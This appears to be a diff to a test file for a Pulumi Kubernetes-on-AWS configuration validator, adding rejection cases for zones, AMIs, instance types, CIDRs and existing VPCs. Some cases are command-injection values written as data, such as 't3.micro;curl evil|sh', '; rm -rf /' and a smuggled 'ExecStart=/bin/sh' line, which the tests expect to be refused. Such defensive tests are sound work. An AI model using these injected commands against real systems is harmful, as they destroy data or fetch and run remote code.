@@ -5,6 +5,21 @@ import { CONFIG_SCHEMA, ConfigError, PROJECT, validateConfig } from "../componen
 import { renderEtcdBackupUnits } from "../components/kubeadm";
 import { runProgram } from "../tools/harness/program";
 import { readProject } from "../tools/harness/stackConfig";
+import { EXISTING_VPC_CIDR, existingNatGateways } from "../tools/harness/cloud";
+
+// An existing VPC in the dev stack's zones (the stand-in cloud knows any well-formed id: tools/harness/cloud.ts).
+const DEV_ZONES = ["us-west-2a", "us-west-2b", "us-west-2c"];
+const VPC_ID = "vpc-0e1e2e3e4e5e6e7e8";
+const PUBLIC_NATS = existingNatGateways(VPC_ID).filter((n) => n.connectivityType === "public");
+function existing(extra: Record<string, unknown> = {}) {
+    return {
+        vpcId: VPC_ID,
+        publicSubnets: Object.fromEntries(DEV_ZONES.map((z, i) => [z, `subnet-0a${i}`])),
+        privateSubnets: Object.fromEntries(DEV_ZONES.map((z, i) => [z, `subnet-0b${i}`])),
+        natGatewayIds: PUBLIC_NATS.map((n) => n.id),
+        ...extra,
+    };
+}
 
 describe("config", () => {
     it("declares every key in Pulumi.yaml with a description, the same default and a matching type", () => {
@@ -71,6 +86,22 @@ describe("config", () => {
         assert.deepEqual(cfg.existingVpc, existingVpc);
     });
 
+    it("accepts a zone (and a region) the zone table does not know, with allowUnknownZones", () => {
+        const ssh = '["203.0.113.0/24"]';
+        assert.throws(() => validateConfig({ availabilityZones: '["us-west-2a","us-west-2z"]', sshAllowedCidrs: ssh }, "us-west-2"), /availabilityZones: "us-west-2z"/);
+        assert.deepEqual(validateConfig({ availabilityZones: '["us-west-2a","us-west-2z"]', allowUnknownZones: "true", sshAllowedCidrs: ssh }, "us-west-2").availabilityZones, ["us-west-2a", "us-west-2z"]);
+        assert.equal(validateConfig({ availabilityZones: '["xx-moon-1a"]', allowUnknownZones: "true", sshAllowedCidrs: ssh }, "xx-moon-1").region, "xx-moon-1");
+        // the switch admits unknown names, not malformed ones or zones of another region
+        assert.throws(() => validateConfig({ availabilityZones: '["us-east-1a"]', allowUnknownZones: "true", sshAllowedCidrs: ssh }, "us-west-2"), /zone names of region us-west-2/);
+    });
+
+    it("accepts Graviton types now that they get the arm64 image, and an existing VPC behind an internal API without NAT ids", async () => {
+        const graviton = await runProgram({ stack: "dev", config: { controlPlaneInstanceType: "m7g.large", bastionInstanceType: "t4g.micro" } });
+        assert.ifError(graviton.error);
+        const internal = await runProgram({ stack: "dev", config: { internalApi: true, existingVpc: existing({ natGatewayIds: [] }) } });
+        assert.ifError(internal.error);
+    });
+
     // Each case: a config override, the key the message must name, and a fragment of what is allowed.
     const cases: [string, Record<string, unknown>, string, string][] = [
         ["count zero", { controlPlaneCount: 0 }, "controlPlaneCount", "an integer from 1 to 7"],
@@ -126,9 +157,9 @@ describe("config", () => {
         ["defect: no SSH source (the default): the bastion would admit nobody", { sshAllowedCidrs: [] }, "sshAllowedCidrs", "at least one CIDR: pulumi up reaches every node over SSH through the bastion"],
         ["version with a leading zero", { kubernetesVersion: "1.035.2" }, "kubernetesVersion", "a version 1.N.P"],
         ["patch with a leading zero", { kubernetesVersion: "1.35.02" }, "kubernetesVersion", "a version 1.N.P"],
-        ["Graviton control plane with the amd64 image", { controlPlaneInstanceType: "m7g.large" }, "controlPlaneInstanceType", "an x86_64 instance type"],
-        ["Graviton workers with the amd64 image", { workerInstanceType: "c7gn.xlarge" }, "workerInstanceType", "which a Graviton (arm64) type cannot boot"],
-        ["Graviton bastion with the amd64 image", { bastionInstanceType: "t4g.micro" }, "bastionInstanceType", "an x86_64 instance type"],
+        ["Graviton control plane with an explicit amd64 image", { amiId: "ami-0123456789abcdef0", controlPlaneInstanceType: "m7g.large" }, "controlPlaneInstanceType", "an x86_64 instance type: amiId ami-0123456789abcdef0 is an x86_64 image and m7g.large is arm64"],
+        ["Graviton workers with an explicit amd64 image", { amiId: "ami-0123456789abcdef0", workerInstanceType: "c7gn.xlarge" }, "workerInstanceType", "an x86_64 instance type"],
+        ["Graviton bastion with an explicit amd64 image", { amiId: "ami-0123456789abcdef0", bastionInstanceType: "t4g.micro" }, "bastionInstanceType", "an x86_64 instance type"],
         ["backup at hour 25", { etcdBackupSchedule: "*-*-* 25:00:00" }, "etcdBackupSchedule", "a systemd OnCalendar expression"],
         ["backup in month 13", { etcdBackupSchedule: "*-13-01 03:00" }, "etcdBackupSchedule", "a systemd OnCalendar expression"],
         ["backup on day 32", { etcdBackupSchedule: "*-*-32 03:00" }, "etcdBackupSchedule", "a systemd OnCalendar expression"],
@@ -136,6 +167,64 @@ describe("config", () => {
         ["backup in an unknown time zone", { etcdBackupSchedule: "*-*-* 03:00 Mars/Olympus" }, "etcdBackupSchedule", "a systemd OnCalendar expression"],
         ["existing VPC: one subnet both public and private", { existingVpc: { vpcId: "vpc-0abc", publicSubnets: { "us-west-2a": "subnet-01", "us-west-2b": "subnet-03", "us-west-2c": "subnet-05" }, privateSubnets: { "us-west-2a": "subnet-01", "us-west-2b": "subnet-04", "us-west-2c": "subnet-06" } } }, "existingVpc", "subnet-01 is also publicSubnets.us-west-2a (privateSubnets.us-west-2a)"],
         ["existing VPC: two zones share a private subnet", { existingVpc: { vpcId: "vpc-0abc", publicSubnets: { "us-west-2a": "subnet-01", "us-west-2b": "subnet-03", "us-west-2c": "subnet-05" }, privateSubnets: { "us-west-2a": "subnet-02", "us-west-2b": "subnet-02", "us-west-2c": "subnet-06" } } }, "existingVpc", "each subnet once"],
+        // Zones and regions against the zone table (components/net/zones.ts).
+        ["a zone the region does not have", { availabilityZones: ["us-west-2a", "us-west-2b", "us-west-2e"] }, "availabilityZones", "us-west-2 has us-west-2a, us-west-2b, us-west-2c, us-west-2d"],
+        ["a zone letter typo", { availabilityZones: ["us-west-2a", "us-west-2b", "us-west-2z"] }, "availabilityZones", "set allowUnknownZones: true"],
+        ["an unknown region", { "aws:region": "xx-moon-1", availabilityZones: ["xx-moon-1a"] }, "aws:region", "a commercial AWS region the zone table knows"],
+        ["a GovCloud region without the switch", { "aws:region": "us-gov-west-1", availabilityZones: ["us-gov-west-1a"] }, "aws:region", "for a newer one set allowUnknownZones: true"],
+        ["an uppercase region", { "aws:region": "US-WEST-2" }, "aws:region", "an AWS region such as us-east-1"],
+        ["an uppercase zone", { availabilityZones: ["US-WEST-2A", "us-west-2b", "us-west-2c"] }, "availabilityZones", "zone names of region us-west-2"],
+        ["a zone with a shell command", { availabilityZones: ["us-west-2a;reboot", "us-west-2b", "us-west-2c"] }, "availabilityZones", "zone names of region us-west-2"],
+        ["allowUnknownZones not a boolean", { allowUnknownZones: "yes" }, "allowUnknownZones", "true or false"],
+        // Images: an explicit amiId is looked up (the stand-in: `a64` arm64, `dead` missing).
+        ["an arm64 image with x86_64 workers", { amiId: "ami-0a64a64a64a64a64a", controlPlaneInstanceType: "m7g.large", bastionInstanceType: "t4g.micro" }, "workerInstanceType", "an arm64 instance type: amiId ami-0a64a64a64a64a64a is an arm64 image"],
+        ["an AMI that does not exist", { amiId: "ami-0deadbeef1234567" }, "amiId", "an AMI this account can launch in us-west-2"],
+        ["an uppercase AMI id", { amiId: "AMI-0123456789ABCDEF0" }, "amiId", "an AMI id such as ami-"],
+        ["an AMI id too long", { amiId: "ami-0123456789abcdef01" }, "amiId", "an AMI id such as ami-"],
+        // Instance types.
+        ["an instance size that does not exist", { controlPlaneInstanceType: "m6i.huge" }, "controlPlaneInstanceType", "family '.' size"],
+        ["an instance type with a shell command", { bastionInstanceType: "t3.micro;curl evil|sh" }, "bastionInstanceType", "an EC2 instance type"],
+        ["an uppercase instance type", { workerInstanceType: "M6I.LARGE" }, "workerInstanceType", "an EC2 instance type"],
+        ["a Mac instance type", { workerInstanceType: "mac2.metal" }, "workerInstanceType", "mac families run macOS only"],
+        // Names, numbers and types.
+        ["a cluster name with shell metacharacters", { clusterName: "k8s;rm -rf" }, "clusterName", "3-20 lowercase letters"],
+        ["a cluster name in unicode", { clusterName: "kübernetes" }, "clusterName", "3-20 lowercase letters"],
+        ["a very long cluster name", { clusterName: "a".repeat(10000) }, "clusterName", "3-20 lowercase letters"],
+        ["a cluster name ending in '-'", { clusterName: "k8s-" }, "clusterName", "ending with a letter or digit"],
+        ["a negative root volume", { rootVolumeSizeGiB: -50 }, "rootVolumeSizeGiB", "an integer from 20 to 1024"],
+        ["a fractional worker count", { workerCount: 1.5 }, "workerCount", "an integer"],
+        ["a huge control-plane count", { controlPlaneCount: 1e9 }, "controlPlaneCount", "an integer from 1 to 7"],
+        ["a count that is a boolean", { controlPlaneCount: true }, "controlPlaneCount", "an integer"],
+        ["retention 0 days", { etcdBackupRetentionDays: 0 }, "etcdBackupRetentionDays", "an integer from 1 to 3650"],
+        ["retention of a century", { etcdBackupRetentionDays: 36500 }, "etcdBackupRetentionDays", "an integer from 1 to 3650"],
+        ["alerts not a boolean", { alerts: "1" }, "alerts", "true or false"],
+        ["a version with a trailing newline", { kubernetesVersion: "1.35.4\n" }, "kubernetesVersion", "a version 1.N.P"],
+        // CIDRs: overlaps and non-canonical text.
+        ["services equal to the VPC", { serviceCidr: "10.0.0.0/16" }, "serviceCidr", "does not overlap vpcCidr"],
+        ["pods inside the services", { podCidr: "10.96.0.0/16" }, "serviceCidr", "does not overlap podCidr"],
+        ["a pod CIDR with a trailing space", { podCidr: "10.244.0.0/16 " }, "podCidr", "not an IPv4 CIDR of the form a.b.c.d/p"],
+        ["a service CIDR with host bits", { serviceCidr: "10.96.0.1/12" }, "serviceCidr", "host bits are set"],
+        ["a VPC CIDR in full-width digits", { vpcCidr: "１０.0.0.0/16" }, "vpcCidr", "an IPv4 network CIDR"],
+        ["an IPv6 API CIDR", { apiAllowedCidrs: ["::/0"] }, "apiAllowedCidrs", "a list of IPv4 network CIDRs"],
+        ["SSH CIDRs as an object", { sshAllowedCidrs: { a: "203.0.113.0/24" } }, "sshAllowedCidrs", "a list of strings"],
+        // Text that reaches node scripts and certificates.
+        ["an extra SAN with a shell command", { apiExtraSans: ["api.example.com;id"] }, "apiExtraSans", "a list of DNS names or IP addresses"],
+        ["NAT mode in the wrong case", { natGateways: "PerAz" }, "natGateways", "'single' or 'perAz'"],
+        ["a lowercase PKI algorithm", { pkiAlgorithm: "rsa" }, "pkiAlgorithm", "'RSA' or 'ECDSA'"],
+        ["a backup schedule with a shell command", { etcdBackupSchedule: "*-*-* 03:00:00; rm -rf /" }, "etcdBackupSchedule", "a systemd OnCalendar expression"],
+        ["a backup schedule with a unit line", { etcdBackupSchedule: "daily\nExecStart=/bin/sh" }, "etcdBackupSchedule", "a systemd OnCalendar expression"],
+        ["a replace trigger with a newline", { nodeReplaceTriggers: { "k8s-dev-cp-0": "x\ny" } }, "nodeReplaceTriggers", "a value of 1-64 letters"],
+        ["a replace trigger for a node the stack does not have", { nodeReplaceTriggers: { "k8s-dev-cp-9": "2026-11-30" } }, "nodeReplaceTriggers", "node names of this stack"],
+        // An existing VPC, looked up before anything is built.
+        ["an existing VPC that does not exist", { existingVpc: existing({ vpcId: "vpc-0dead0beef0dead0b" }) }, "existingVpc", "a VPC of this account in us-west-2"],
+        ["an existing VPC without its NAT gateways, internet-facing API", { existingVpc: existing({ natGatewayIds: [] }) }, "existingVpc", `natGatewayIds listing every public NAT gateway of ${VPC_ID} (missing ${PUBLIC_NATS.map((n) => n.id).join(", ")})`],
+        ["an existing VPC with a NAT gateway of another VPC", { existingVpc: existing({ natGatewayIds: [...PUBLIC_NATS.map((n) => n.id), "nat-0123456789abcdef0"] }) }, "existingVpc", `natGatewayIds naming available public NAT gateways of ${VPC_ID}`],
+        ["an existing VPC with its private NAT gateway listed", { existingVpc: existing({ natGatewayIds: existingNatGateways(VPC_ID).map((n) => n.id) }) }, "existingVpc", "natGatewayIds naming available public NAT gateways"],
+        ["pods inside the existing VPC's real block", { podCidr: EXISTING_VPC_CIDR, existingVpc: existing() }, "podCidr", `a CIDR that does not overlap the block ${EXISTING_VPC_CIDR} of existingVpc`],
+        ["an API CIDR repeating the existing VPC's block", { apiAllowedCidrs: [EXISTING_VPC_CIDR], existingVpc: existing() }, "apiAllowedCidrs", "is rule api-lb-in-vpc (the VPC's block)"],
+        ["an API CIDR repeating a NAT address", { apiAllowedCidrs: [`${PUBLIC_NATS[1].publicIp}/32`], existingVpc: existing() }, "apiAllowedCidrs", `is rule api-lb-in-nat-1 (${PUBLIC_NATS[1].id})`],
+        ["an existing VPC with an unknown field", { existingVpc: existing({ cidr: "10.0.0.0/16" }) }, "existingVpc", "unknown field cidr"],
+        ["an existing VPC whose NAT ids are not a list", { existingVpc: existing({ natGatewayIds: "nat-0123456789abcdef0" }) }, "existingVpc", "natGatewayIds: a list of distinct NAT gateway ids"],
     ];
 
     describe(`rejects bad values before any resource is registered (${cases.length} cases)`, () => {
